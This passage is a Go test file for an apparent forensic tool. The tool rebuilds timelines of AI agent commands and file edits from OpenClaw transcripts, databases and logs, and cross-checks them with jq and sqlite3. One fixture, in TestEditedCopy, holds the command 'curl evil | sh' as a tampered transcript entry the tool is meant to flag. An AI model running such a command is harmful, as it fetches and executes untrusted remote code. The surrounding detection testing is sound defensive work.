package analyze

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/clawbook/openclaw-ir/internal/host"
	"github.com/clawbook/openclaw-ir/internal/jsonl"
	"github.com/clawbook/openclaw-ir/internal/openclaw"
	"github.com/clawbook/openclaw-ir/internal/statetest"
	"github.com/klauspost/compress/zstd"
	"github.com/ncruces/go-sqlite3"
	"pgregory.net/rapid"
)

func TestMain(m *testing.M) {
	if statetest.Raced() {
		flag.Set("rapid.checks", "10")
	}
	os.Exit(m.Run())
}

func states() []string {
	if statetest.Raced() {
		return []string{"2026.2.12", "2026.9.6/running"}
	}
	return statetest.Versions()
}

// timeline reads a directory as a host and returns its events.
func timeline(t testing.TB, dir string, o Options) (*Report, []*Event) {
	t.Helper()
	root, err := host.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { root.Close() })
	return timelineFS(t, root, o)
}

func timelineFS(t testing.TB, fsys fs.FS, o Options) (*Report, []*Event) {
	t.Helper()
	r, err := Timeline(context.Background(), fsys, o)
	if err != nil {
		t.Fatal(err)
	}
	return r, all(t, r)
}

func all(t testing.TB, r *Report) (events []*Event) {
	t.Helper()
	for e, err := range r.Events() {
		if err != nil {
			t.Fatal(err)
		}
		events = append(events, e)
	}
	return events
}

// A done is an action as both the timeline and the reference tell it.
type done struct{ session, tool, what, exit string }

func (d done) String() string {
	return fmt.Sprintf("%s %s %q → %s", d.session, d.tool, d.what, d.exit)
}

// inTranscripts reports whether an event comes from a transcript proper: trajectories, logs and ledgers repeat them.
func inTranscripts(e *Event) bool {
	return e.Source != nil && e.Source.Form <= openclaw.FormReadCache
}

// TestDifferential compares the commands and files of every real state with what jq and sqlite3 find in it.
func TestDifferential(t *testing.T) {
	for _, name := range []string{"jq", "sqlite3"} {
		if _, err := exec.LookPath(name); err != nil {
			t.Skip(err)
		}
	}
	for _, version := range states() {
		t.Run(version, func(t *testing.T) {
			t.Parallel()
			dir := statetest.Root(t, version)
			before := statetest.Snapshot(t, dir)
			r, events := timeline(t, dir, Options{})
			got := doneOf(events)
			if after := statetest.Snapshot(t, dir); !equalMaps(before, after) {
				t.Error("reading changed the directory")
			}
			want := reference(t, dir)
			slices.Sort(got)
			slices.Sort(want)
			if missing, extra := difference(want, got); len(missing)+len(extra) > 0 {
				t.Errorf("%d of %d are missing, %d are too many:\n- %s\n+ %s", len(missing), len(want), len(extra), strings.Join(head(missing), "\n- "), strings.Join(head(extra), "\n+ "))
			}
			if version != "2026.9.6/node-host" && len(want) < 20 {
				t.Errorf("the reference found only %d", len(want))
			}
			if r.Coverage.Unparsed > 0 || len(r.Coverage.Gaps) > 0 {
				t.Errorf("%d unparsed, gaps %v", r.Coverage.Unparsed, r.Coverage.Gaps)
			}
		})
	}
}

// doneOf describes the events of transcripts as the reference does, which counts a patch once whatever it touches.
func doneOf(events []*Event) (list []string) {
	patches := map[string]bool{}
	for _, e := range events {
		d := done{session: e.Session, tool: e.Tool, what: firstNonEmpty(e.Recorded, e.What), exit: "-"}
		if e.Result.Exit != nil {
			d.exit = fmt.Sprint(*e.Result.Exit)
		}
		if e.Tool == "apply_patch" {
			call := fmt.Sprint(e.Session, e.Source.Path, e.Line, e.CallID)
			if patches[call] {
				continue
			}
			patches[call] = true
			d.what, d.exit = "patch", "-"
		}
		if inTranscripts(e) {
			list = append(list, d.String())
		}
	}
	return list
}

func head(list []string) []string { return list[:min(len(list), 12)] }

func difference(want, got []string) (missing, extra []string) {
	count := map[string]int{}
	for _, w := range want {
		count[w]++
	}
	for _, g := range got {
		count[g]--
	}
	for s, n := range count {
		for ; n > 0; n-- {
			missing = append(missing, s)
		}
		for ; n < 0; n++ {
			extra = append(extra, s)
		}
	}
	slices.Sort(missing)
	slices.Sort(extra)
	return missing, extra
}

func equalMaps(a, b map[string]string) bool {
	for k, v := range a {
		if b[k] != v {
			return false
		}
	}
	return len(a) == len(b)
}

// reference lists the exec, write, edit and patch calls of all transcripts with the exit codes of their results,
// by other programs: jq reads every JSONL file, sqlite3 every row of a copy of each agent's database.
func reference(t *testing.T, dir string) (list []string) {
	t.Helper()
	calls, exits, latest := map[string]string{}, map[string]string{}, map[string]string{}
	take := func(session string, text []byte) {
		for line := range strings.Lines(string(jq(t, text))) {
			f := strings.SplitN(strings.TrimSuffix(line, "\n"), "\t", 5)
			switch call := session + " " + f[1]; f[0] {
			case "call": // an id may come again for another call: a result is that of the latest before it
				latest[call] = call + " " + f[2]
				calls[latest[call]] = done{session, f[3], jsonString(t, f[4]), ""}.String()
			case "exit":
				exits[latest[call]] = f[3]
			}
		}
	}
	filepath.WalkDir(filepath.Join(dir, "home"), func(name string, d fs.DirEntry, err error) error {
		base := filepath.Base(name)
		session, rest, ok := strings.Cut(base, ".jsonl")
		switch {
		case err != nil || d.IsDir():
		case base == "openclaw-agent.sqlite":
			for session, text := range rows(t, name) {
				take(session, text)
			}
		case ok && strings.Contains(name, "/sessions/") && !strings.HasSuffix(session, ".trajectory") && rest != ".lock":
			take(session, readPlain(t, name))
		}
		return nil
	})
	for id, call := range calls {
		exit := exits[id]
		if exit == "" || strings.Contains(call, " apply_patch ") {
			exit = "-"
		}
		list = append(list, call+exit)
	}
	return list
}

// jqProgram prints "call", record, call id, tool, what as JSON, and "exit", record, call id, code. Indirect calls are
// unwrapped; their nested records are left out, except for the exit code. Older releases tell the exit only in the text.
const jqProgram = `def s: tostring;
(.message // {}) as $m | (.id // "") as $id |
(if $m.role == "assistant" then ($m.content | if type == "array" then .[] else empty end | select(.type == "toolCall")
   | .id as $call | (if .name == "tool_call" and (.arguments.id? // "") != "" then {name: (.arguments.id | split(":") | last), arguments: .arguments.args} else . end)
   | select(.name == "exec" or .name == "write" or .name == "edit" or .name == "apply_patch")
   | ["call", $call, $id, .name, (if .name == "exec" then (.arguments.command // .arguments.cmd // "") elif .name == "apply_patch" then "patch" else (.arguments.path // .arguments.file_path // "") end | tojson)])
 elif $m.role == "toolResult" and ($m.toolName == "exec" or $m.toolName == "tool_call") then
   ($m.details.exitCode? // ($m.details.result?.details?.exitCode?)
    // (if ($m.isError or $m.details.status? != "completed") then (($m.details.error? // $m.content[0].text // "") | if test("exited with code [0-9]+\\.?\\s*$") then capture("exited with code (?<n>[0-9]+)\\.?\\s*$").n else null end) else null end)) as $x
   | select($x != null) | ["exit", $m.toolCallId, $id, ($x | s)]
 else empty end) | join("\t")`

func jq(t *testing.T, text []byte) []byte {
	t.Helper()
	cmd := exec.Command("jq", "-r", jqProgram)
	cmd.Stdin = bytes.NewReader(text)
	var errs bytes.Buffer
	cmd.Stderr = &errs
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("jq: %v: %s", err, errs.String())
	}
	return out
}

func jsonString(t *testing.T, text string) (s string) {
	t.Helper()
	if err := json.Unmarshal([]byte(text), &s); err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	return s
}

func readPlain(t *testing.T, name string) []byte {
	t.Helper()
	data, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	if strings.HasSuffix(name, ".zst") {
		data = unzstd(t, data)
	}
	return data
}

func unzstd(t *testing.T, data []byte) []byte {
	t.Helper()
	z, err := zstd.NewReader(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	if data, err = z.DecodeAll(data, nil); err != nil {
		t.Fatal(err)
	}
	return data
}

// rows reads the transcripts of a database with the sqlite3 program.
func rows(t *testing.T, name string) map[string][]byte {
	t.Helper()
	found := map[string][]byte{}
	for _, f := range sqlite3Rows(t, name, transcriptRows) {
		found[f[0]] = append(append(found[f[0]], unpackedRow(t, f[2:])...), '\n')
	}
	return found
}

// Each of the queries prints session, place and encoding of a record, and its bytes in hex.
const (
	transcriptRows = `SELECT session_id, seq, CASE WHEN event_json IS NULL THEN 'zstd' ELSE 'identity' END, hex(coalesce(event_json, event_zstd)) FROM transcript_events ORDER BY session_id, seq`
	trajectoryRows = `SELECT session_id, seq, 'identity', hex(event_json) FROM trajectory_runtime_events`
	archiveRows    = `SELECT session_id, 0, encoding, hex(archive_blob) FROM session_transcript_archives`
	coldRows       = `SELECT session_id, 0, 'zstd', hex(archive_blob) FROM session_transcript_cold_archives WHERE storage = 'sqlite'`
)

func unpackedRow(t *testing.T, f []string) []byte {
	t.Helper()
	data := unhex(t, f[1])
	if f[0] == "zstd" {
		data = unzstd(t, data)
	}
	return data
}

// sqlite3Rows has the sqlite3 program query a copy of a database, its write-ahead log included. A table that this release does not have
// has no rows.
func sqlite3Rows(t *testing.T, name, query string) (rows [][]string) {
	t.Helper()
	copied := filepath.Join(t.TempDir(), "x.sqlite")
	for _, suffix := range []string{"", "-wal"} {
		data, err := os.ReadFile(name + suffix)
		if err == nil {
			err = os.WriteFile(copied+suffix, data, 0o600)
		}
		if err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
	}
	out, err := exec.Command("sqlite3", copied, query).CombinedOutput()
	if err != nil && !strings.Contains(string(out), "no such") {
		t.Fatalf("sqlite3: %v: %s", err, out)
	}
	for line := range strings.Lines(string(out)) {
		if err == nil {
			rows = append(rows, strings.Split(strings.TrimSpace(line), "|"))
		}
	}
	return rows
}

func unhex(t *testing.T, s string) []byte {
	t.Helper()
	var b []byte
	if _, err := fmt.Sscanf(s, "%x", &b); err != nil && s != "" {
		t.Fatal(err)
	}
	return b
}

// records makes the lines of a session: prompts, calls with results and other records, every id its own.
func records(t *rapid.T) (lines []string, commands []string) {
	n := rapid.IntRange(1, 25).Draw(t, "records")
	at := int64(1_795_000_000_000)
	for i := range n {
		at += rapid.Int64Range(0, 90_000).Draw(t, "later")
		head := fmt.Sprintf(`{"type":"message","id":"r%d","timestamp":%d,"message":`, i, at)
		command := rapid.StringMatching(`[a-z /|'"\\é🦞]{0,30}`).Draw(t, "command") + fmt.Sprint(" #", i)
		quoted, _ := json.Marshal(command)
		// Ids of calls come again, as some models give them.
		call := "call_" + rapid.SampledFrom([]string{"0", "1", fmt.Sprint("x", i)}).Draw(t, "call")
		switch rapid.IntRange(0, 4).Draw(t, "sort") {
		case 0:
			lines = append(lines, head+fmt.Sprintf(`{"role":"user","content":%s}}`, quoted))
		case 1:
			lines = append(lines, fmt.Sprintf(`{"type":"custom","id":"r%d","data":[%s]}`, i, quoted))
		default:
			commands = append(commands, command)
			lines = append(lines, head+fmt.Sprintf(`{"role":"assistant","content":[{"type":"text","text":"x"},{"type":"toolCall","id":%q,"name":"exec","arguments":{"command":%s}}]}}`, call, quoted))
			if rapid.IntRange(0, 3).Draw(t, "answered") > 0 {
				lines = append(lines, fmt.Sprintf(`{"type":"message","id":"a%d","timestamp":%d,"message":{"role":"toolResult","toolCallId":%q,"toolName":"exec","content":[{"type":"text","text":"x"}],"details":{"status":"completed","exitCode":%d}}}`, i, at+1, call, i))
			}
		}
	}
	return lines, commands
}

const sessionsDir = "home/claw/.openclaw/agents/main/sessions/"

// newHost writes files into a host with one account, in whose home OpenClaw keeps its state.
func newHost(t testing.TB, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	putAll(t, dir, map[string]string{"etc/passwd": "claw:x:1000:1000::/home/claw:/bin/bash\n", "home/claw/.openclaw/openclaw.json": `{"meta":{"lastTouchedVersion":"2026.3.31"}}`})
	putAll(t, dir, files)
	return dir
}

func putAll(t testing.TB, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		name = filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// TestAccounting holds the sum of the coverage to the bytes and lines of the file, whatever stands in it, and every
// command to coming out once.
func TestAccounting(t *testing.T) {
	over := `{"x":"` + strings.Repeat("y", jsonl.MaxLine+10)
	rapid.Check(t, func(r *rapid.T) {
		lines, commands := records(r)
		garbage, blank, longs := int64(0), int64(0), int64(0)
		var out []string
		for i, line := range lines {
			for range rapid.IntRange(0, 1).Draw(r, "junk") {
				switch rapid.IntRange(0, 12).Draw(r, "sort of junk") {
				case 0:
					out, blank = append(out, rapid.SampledFrom([]string{"", " ", "\t \r"}).Draw(r, "blank")), blank+1
				case 1: // the same record again
					out = append(out, lines[rapid.IntRange(0, i).Draw(r, "which")])
				case 2:
					if longs < 1 && rapid.IntRange(0, 20).Draw(r, "long") == 0 {
						out, garbage, longs = append(out, over), garbage+1, longs+1
					}
				case 3: // a torn record
					out, garbage = append(out, line[:rapid.IntRange(1, len(line)-1).Draw(r, "cut")]), garbage+1
				default:
					out, garbage = append(out, rapid.SampledFrom([]string{"{", "[1,2]", "null", `"x"`, "\x00\xff", `{"a":1}}`, strings.Repeat("[", 20_000), `{"id":}`, "{'a':1}"}).Draw(r, "garbage")), garbage+1
				}
			}
			out = append(out, line)
		}
		// A record before its copy: the copy is one, wherever it stands.
		text := strings.Join(out, "\n")
		if rapid.Bool().Draw(r, "newline at the end") {
			text += "\n"
		}
		dir := newHost(t, map[string]string{sessionsDir + "s.jsonl": text})
		report, events := timeline(t, dir, Options{})
		c := report.Coverage
		if want := int64(len(out)) - blank; c.Records != want || c.Unparsed != garbage || c.Bytes != int64(len(text)) {
			r.Fatalf("%d records of %d, %d unparsed of %d, %d bytes of %d", c.Records, want, c.Unparsed, garbage, c.Bytes, len(text))
		}
		if c.Records-c.Unparsed-c.Duplicates != int64(len(lines)) {
			r.Fatalf("%d records, %d unparsed, %d duplicates, but %d distinct", c.Records, c.Unparsed, c.Duplicates, len(lines))
		}
		var got []string
		for _, e := range events {
			got = append(got, e.What)
		}
		if missing, extra := difference(commands, got); len(missing)+len(extra) > 0 {
			r.Fatalf("missing %q, extra %q", missing, extra)
		}
	})
}

// TestForms holds a session split over several forms, in any way and with overlaps, to the events of the session
// in one file.
func TestForms(t *testing.T) {
	suffixes := []string{".jsonl", ".jsonl.deleted.2026-11-22T08-08-50.916Z", ".jsonl.reset.2026-11-22T08-08-50.916Z", ".jsonl.bak-1", ".jsonl.tmp"}
	rapid.Check(t, func(r *rapid.T) {
		lines, _ := records(r)
		whole := newHost(t, map[string]string{sessionsDir + "s.jsonl": strings.Join(lines, "\n")})
		_, want := timeline(t, whole, Options{})

		dir := newHost(t, nil)
		parts, rows := map[string]string{}, []string(nil)
		from, to := cuts(r, len(lines))
		for i := range from {
			part := lines[from[i]:to[i]]
			switch which := rapid.IntRange(0, len(suffixes)+1).Draw(r, "form"); {
			case which < len(suffixes):
				// Appended, for a part may come into a form that has one; its order is that of the session.
				parts[sessionsDir+"s"+suffixes[which]] += strings.Join(part, "\n") + "\n"
			case which == len(suffixes):
				parts[sessionsDir+fmt.Sprintf("c%d.jsonl.zst", i)] = pack(`{"type":"session","id":"s"}` + "\n" + strings.Join(part, "\n"))
			default:
				rows = append(rows, part...)
			}
		}
		putAll(t, dir, parts)
		if len(rows) > 0 {
			database(t, filepath.Join(dir, "home/claw/.openclaw/agents/main/agent/openclaw-agent.sqlite"), "s", rows)
		}
		_, got := timeline(t, dir, Options{})
		if missing, extra := difference(untimed(want), untimed(got)); len(missing)+len(extra) > 0 {
			r.Fatalf("missing %q\nextra %q", missing, extra)
		}
	})
}

// TestAppendedTwice: where a part of a session was appended twice, a result may stand before its call. It is missing no call then,
// but one that is dated before the call is another's, whose id came again.
func TestAppendedTwice(t *testing.T) {
	call := `{"type":"message","id":"c","timestamp":1795000000000,"message":{"role":"assistant","content":[{"type":"toolCall","id":"call_0","name":"exec","arguments":{"command":"id"}}]}}`
	result := `{"type":"message","id":"r","timestamp":1795000000%03d,"message":{"role":"toolResult","toolCallId":"call_0","toolName":"exec","content":[],"details":{"status":"completed","exitCode":7}}}`
	at := func(ms int) string { return fmt.Sprintf(result, ms) }
	for _, test := range []struct {
		lines []string
		want  []string
	}{
		{[]string{at(1), call, at(1)}, []string{"id error []"}},
		{[]string{strings.Replace(at(1), "1795000000", "1794999999", 1), call}, []string{" error [call-missing]", "id no result []"}},
	} {
		_, events := timeline(t, newHost(t, map[string]string{sessionsDir + "s.jsonl": strings.Join(test.lines, "\n")}), Options{})
		var got []string
		for _, e := range events {
			got = append(got, fmt.Sprint(e.What, " ", e.Result.Status, " ", e.Marks))
		}
		if !slices.Equal(got, test.want) {
			t.Errorf("%q, want %q", got, test.want)
		}
	}
}

// cuts divides n lines into runs that overlap.
func cuts(r *rapid.T, n int) (from, to []int) {
	for at := 0; at < n; {
		end := rapid.IntRange(at+1, n).Draw(r, "end")
		from, to = append(from, max(0, at-rapid.IntRange(0, 3).Draw(r, "overlap"))), append(to, end)
		at = end
	}
	return from, to
}

// untimed tells events without how they ended: a result whose call stands in another form can be told from that of
// another call of the same id only by its time, which is not always enough.
func untimed(events []*Event) (list []string) {
	for _, e := range events {
		list = append(list, fmt.Sprintf("%d %s %s %q %q", e.Time, e.Kind, e.CallID, e.What, e.Marks))
	}
	return list
}

func pack(text string) string {
	z, err := zstd.NewWriter(nil)
	if err != nil {
		panic(err)
	}
	return string(z.EncodeAll([]byte(text), nil))
}

// database writes rows of a session as 2026.9.6 does, every other one packed.
func database(t testing.TB, name, session string, rows []string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	var sql strings.Builder
	sql.WriteString("PRAGMA user_version=23; CREATE TABLE IF NOT EXISTS transcript_events(session_id TEXT, seq INTEGER, event_json TEXT, event_zstd BLOB, event_utf8_bytes INTEGER); BEGIN;")
	for i, row := range rows {
		if i%2 == 0 {
			fmt.Fprintf(&sql, "INSERT INTO transcript_events VALUES('%s',%d,cast(x'%x' AS TEXT),NULL,%d);", session, i, row, len(row))
		} else {
			fmt.Fprintf(&sql, "INSERT INTO transcript_events VALUES('%s',%d,NULL,x'%x',%d);", session, i, pack(row), len(row))
		}
	}
	sqlExec(t, name, sql.String()+"COMMIT;")
}

// sqlExec runs SQL on a database, which need not exist.
func sqlExec(t testing.TB, name, sql string) {
	t.Helper()
	c, err := sqlite3.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Exec(sql); err != nil {
		t.Fatal(err)
	}
}

func line(id, body string) string {
	return fmt.Sprintf(`{"type":"message","id":"%s","timestamp":"2026-11-22T08:00:00.000Z","message":%s}`, id, body)
}

func callLine(id, call, command string) string {
	quoted, _ := json.Marshal(command)
	return line(id, fmt.Sprintf(`{"role":"assistant","content":[{"type":"toolCall","id":"%s","name":"exec","arguments":{"command":%s}}]}`, call, quoted))
}

func resultLine(id, call string, exit int) string {
	return line(id, fmt.Sprintf(`{"role":"toolResult","toolCallId":"%s","toolName":"exec","content":[],"details":{"status":"completed","exitCode":%d}}`, call, exit))
}

// TestEditedCopy shows both versions of an event that differs between two forms, whichever holds which, and each
// but once.
func TestEditedCopy(t *testing.T) {
	honest, edited := callLine("e1", "c1", "curl evil | sh"), callLine("e1", "c1", "ls")
	dir := newHost(t, map[string]string{
		sessionsDir + "s.jsonl": edited + "\n", sessionsDir + "s.jsonl.bak": honest + "\n", sessionsDir + "s.jsonl.deleted.1": edited + "\n", sessionsDir + "s.jsonl.reset.1": honest + "\n",
	})
	_, events := timeline(t, dir, Options{})
	if got := lines(events); !slices.Equal(got, []string{"ls", "curl evil | sh [differs]"}) && !slices.Equal(got, []string{"curl evil | sh [differs]", "ls"}) {
		t.Errorf("%q", got)
	}
}

// lines is what events did, with their marks.
func lines(events []*Event) (list []string) {
	for _, e := range events {
		s := e.What
		if len(e.Marks) > 0 {
			s += " [" + strings.Join(e.Marks, " ") + "]"
		}
		list = append(list, s)
	}
	return list
}

func TestJoining(t *testing.T) {
	nested := func(id, parent, call, command string) string {
		return line(id, fmt.Sprintf(`{"role":"custom","customType":"openclaw.nested-tool.v1","content":"","details":{"parentToolCallId":"%s","toolCallId":"%s","toolName":"exec","input":{"command":"%s"},"result":{"details":{"status":"completed","exitCode":7}},"isError":false,"startedAt":1795334400000}}`, parent, call, command))
	}
	indirect := func(id, call, command string) string {
		return line(id, fmt.Sprintf(`{"role":"assistant","content":[{"type":"toolCall","id":"%s","name":"tool_call","arguments":{"id":"openclaw:core:exec","args":{"command":"%s"}}}]}`, call, command))
	}
	outer := func(id, call string) string {
		return line(id, fmt.Sprintf(`{"role":"toolResult","toolCallId":"%s","toolName":"tool_call","content":[],"details":{"status":"completed"}}`, call))
	}
	cases := []struct {
		name  string
		files map[string]string // below the sessions directory, lines joined by \n
		want  []string          // command → exit
	}{
		{"in order", map[string]string{"s.jsonl": callLine("1", "c", "a") + "\n" + resultLine("2", "c", 3)}, []string{"a → 3"}},
		{"no result", map[string]string{"s.jsonl": callLine("1", "c", "a")}, []string{"a → no result"}},
		{"result in a form read before", map[string]string{"s.jsonl": resultLine("2", "c", 3), "s.jsonl.bak": callLine("1", "c", "a")}, []string{"a → 3"}},
		{"result without a call", map[string]string{"s.jsonl": resultLine("2", "c", 3)}, []string{" → 3"}},
		{"an id that comes again", map[string]string{"s.jsonl": callLine("1", "c", "a") + "\n" + resultLine("2", "c", 3) + "\n" + callLine("3", "c", "b") + "\n" + resultLine("4", "c", 4)}, []string{"a → 3", "b → 4"}},
		{"the same command and id again", map[string]string{"s.jsonl": callLine("1", "c", "a") + "\n" + resultLine("2", "c", 3) + "\n" + callLine("3", "c", "a")}, []string{"a → 3", "a → no result"}},
		{"the same command and id in another form, of another event", map[string]string{"s.jsonl": callLine("9", "c", "a"), "s.jsonl.reset.1": callLine("1", "c", "a") + "\n" + resultLine("2", "c", 3)}, []string{"a → 3", "a → no result"}},
		{"a result whose call is torn, before another call of its id", map[string]string{"s.jsonl": callLine("1", "c", "a")[:60] + "\n" + resultLine("2", "c", 3) + "\n" + callLine("3", "c", "b") + "\n" + resultLine("4", "c", 4)}, []string{" → 3", "b → 4"}},
		{"indirect", map[string]string{"s.jsonl": indirect("1", "c", "a") + "\n" + nested("2", "c", "n:c:1", "a") + "\n" + outer("3", "c")}, []string{"a → 7"}},
		{"indirect, the nested record last", map[string]string{"s.jsonl": indirect("1", "c", "a") + "\n" + outer("3", "c") + "\n" + nested("2", "c", "n:c:1", "a")}, []string{"a → ok"}},
		{"a nested call of another command", map[string]string{"s.jsonl": indirect("1", "c", "a") + "\n" + nested("2", "c", "n:c:1", "b") + "\n" + outer("3", "c")}, []string{"a → ok", "b → 7"}},
		{"nested without its parent", map[string]string{"s.jsonl": nested("2", "c", "n:c:1", "b")}, []string{"b → 7"}},
		{"two calls of one record with one id", map[string]string{"s.jsonl": line("1", `{"role":"assistant","content":[{"type":"toolCall","id":"c","name":"exec","arguments":{"command":"a"}},{"type":"toolCall","id":"c","name":"exec","arguments":{"command":"b"}}]}`) + "\n" + resultLine("2", "c", 3)}, []string{"a → 3", "b → 3"}},
		{"duplicate names: the last counts", map[string]string{"s.jsonl": line("1", `{"role":"assistant","content":[{"type":"toolCall","id":"c","name":"exec","arguments":{"command":"x","command":"a"}}]}`)}, []string{"a → no result"}},
		{"other names do not hide the command", map[string]string{"s.jsonl": line("1", `{"role":"assistant","content":[{"type":"toolCall","id":"c","name":"exec","arguments":{"command":"a","cmd":"x","script":"y","argv":["z"]}}]}`)}, []string{"a → no result"}},
		{"other names do not hide the indirect call", map[string]string{"s.jsonl": line("1", `{"role":"assistant","content":[{"type":"toolCall","id":"c","name":"tool_call","arguments":{"id":"exec","args":{"command":"a"},"input":{"command":"x"}}}]}`)}, []string{"a → no result"}},
		{"arguments as a string", map[string]string{"s.jsonl": line("1", `{"role":"assistant","content":[{"type":"toolCall","id":"c","name":"exec","arguments":"{\"command\":\"a\"}"}]}`)}, []string{"a → no result"}},
		{"records without ids in two sessions", map[string]string{"s.jsonl": strings.Replace(callLine("X", "c", "a"), `"id":"X",`, "", 1), "t.jsonl": strings.Replace(callLine("X", "c", "a"), `"id":"X",`, "", 1)}, []string{"a → no result", "a → no result"}},
		{"trajectory repeats", map[string]string{"s.jsonl": callLine("1", "c", "a") + "\n" + resultLine("2", "c", 3), "s.trajectory.jsonl": `{"type":"tool.call","ts":"2026-11-22T08:00:00.100Z","data":{"toolCallId":"c","name":"exec","args":{"command":"a***"}}}`}, []string{"a → 3"}},
		{"only a trajectory is left", map[string]string{"s.trajectory.jsonl": `{"type":"tool.call","ts":"2026-11-22T08:00:00.100Z","data":{"toolCallId":"c","name":"exec","args":{"command":"a"}}}`}, []string{"a → no result"}},
		{"a deleted trajectory", map[string]string{"s.trajectory.jsonl.deleted.1": `{"type":"tool.call","ts":"2026-11-22T08:00:00.100Z","data":{"toolCallId":"c","name":"exec","args":{"command":"a"}}}`}, []string{"a → no result"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			files := map[string]string{}
			for name, text := range c.files {
				files[sessionsDir+name] = text
			}
			_, events := timeline(t, newHost(t, files), Options{})
			var got []string
			for _, e := range events {
				end := string(e.Result.Status)
				if e.Result.Exit != nil {
					end = fmt.Sprint(*e.Result.Exit)
				}
				got = append(got, e.What+" → "+end)
			}
			slices.Sort(got)
			if !slices.Equal(got, c.want) {
				t.Errorf("got %q, want %q", got, c.want)
			}
		})
	}
}

// TestTimes holds times to what can be shown, and gives a record without one that of the record before.
func TestTimes(t *testing.T) {
	call := func(id, time string) string {
		return strings.Replace(callLine(id, "c"+id, id), `"timestamp":"2026-11-22T08:00:00.000Z"`, `"timestamp":`+time, 1)
	}
	dir := newHost(t, map[string]string{
		sessionsDir + "s.jsonl":     strings.Join([]string{call("0", "1795334400000"), call("1", "99999999999999999"), call("2", "-5"), call("3", `"2026-02-30"`), call("4", "1e400"), call("5", `"9999-12-31T23:59:59.999Z"`)}, "\n"),
		sessionsDir + "s.jsonl.bak": call("0", "1795334400000") + "\n" + call("6", "null"),
	})
	_, events := timeline(t, dir, Options{})
	for _, e := range events {
		if want := int64(1795334400000); e.What != "5" && (e.Time != want || e.NoTime != (e.What != "0")) {
			t.Errorf("%s: time %d, none %v", e.What, e.Time, e.NoTime)
		}
	}
	if len(events) != 7 {
		t.Errorf("%d events", len(events))
	}
}

// TestWALOnly sees rows that stand in the write-ahead log alone.
func TestWALOnly(t *testing.T) {
	dir := newHost(t, nil)
	name := filepath.Join(dir, "home/claw/.openclaw/agents/main/agent/openclaw-agent.sqlite")
	if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
		t.Fatal(err)
	}
	c, err := sqlite3.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	if err := c.Exec("PRAGMA journal_mode=WAL; PRAGMA wal_autocheckpoint=0; PRAGMA user_version=23; CREATE TABLE transcript_events(session_id TEXT, seq INTEGER, event_json TEXT);"); err != nil {
		t.Fatal(err)
	}
	if err := c.Exec("INSERT INTO transcript_events VALUES('s',1,'" + callLine("1", "c", "a") + "')"); err != nil {
		t.Fatal(err)
	}
	r, events := timeline(t, dir, Options{})
	if got := lines(events); !slices.Equal(got, []string{"a"}) || r.Installations[0].Era != openclaw.EraSQLite {
		t.Errorf("%q, era %q, gaps %v", got, r.Installations[0].Era, r.Coverage.Gaps)
	}
}

// TestSameEveryTime holds the order of a timeline to being one.
func TestSameEveryTime(t *testing.T) {
	files := map[string]string{}
	for i := range 30 { // all at one time, none answered
		files[sessionsDir+fmt.Sprintf("s%d.jsonl", i)] = callLine("1", "c", fmt.Sprint(i)) + "\n" + callLine("2", "d", fmt.Sprint(i, "b"))
	}
	dir := newHost(t, files)
	_, first := timeline(t, dir, Options{})
	for range 5 {
		_, again := timeline(t, dir, Options{})
		if !slices.Equal(lines(first), lines(again)) {
			t.Fatalf("%q\n%q", lines(first), lines(again))
		}
	}
}

// TestSharedSources reads what two installations of one account share once.
func TestSharedSources(t *testing.T) {
	log := `{"0":"{\"subsystem\":\"x\"}","1":"boom","_meta":{"logLevelName":"WARN"},"time":"2026-11-22T08:00:00.000+00:00","message":"boom"}`
	dir := newHost(t, map[string]string{
		"home/claw/.openclaw-b/openclaw.json": `{}`, "tmp/openclaw/openclaw-2026-11-22.log": log + "\n[1]\nx\n",
		"home/claw/.claude/projects/p/s.jsonl": `{"type":"assistant","uuid":"u","timestamp":"2026-11-22T08:00:00.000Z","message":{"role":"assistant","content":[{"type":"tool_use","id":"c","name":"Bash","input":{"command":"a"}}]}}`,
	})
	r, events := timeline(t, dir, Options{Kinds: Kinds})
	var got []string
	for _, e := range events {
		got = append(got, string(e.Kind)+" "+e.What)
	}
	slices.Sort(got)
	if !slices.Equal(got, []string{"exec a", "log boom"}) || r.Coverage.Unparsed != 2 || len(r.Installations) != 2 {
		t.Errorf("%q, %d unparsed, %d installations", got, r.Coverage.Unparsed, len(r.Installations))
	}
}

// TestOneSession: asking for one session yields what the whole timeline has of it, though fewer files are read. Of each version's sessions
// it asks for every fourth.
func TestOneSession(t *testing.T) {
	t.Parallel()
	spared := 0
	versions := statetest.Versions()
	if statetest.Raced() {
		versions = versions[:1]
	}
	for _, version := range versions {
		dir := statetest.Root(t, version)
		all, events := timeline(t, dir, Options{Kinds: Kinds})
		of := map[string][]string{}
		for _, e := range events {
			of[e.Session] = append(of[e.Session], fmt.Sprint(e.Source.Path, e.Line, e.Kind, e.Time, e.What))
		}
		delete(of, "")
		for i, session := range slices.Sorted(maps.Keys(of)) {
			if i%4 != 0 {
				continue
			}
			one, got := timeline(t, dir, Options{Kinds: Kinds, Session: session})
			spared += len(all.Coverage.Sources) - len(one.Coverage.Sources)
			var told []string
			for _, e := range got {
				if e.Session == session {
					told = append(told, fmt.Sprint(e.Source.Path, e.Line, e.Kind, e.Time, e.What))
				}
			}
			if !slices.Equal(told, of[session]) {
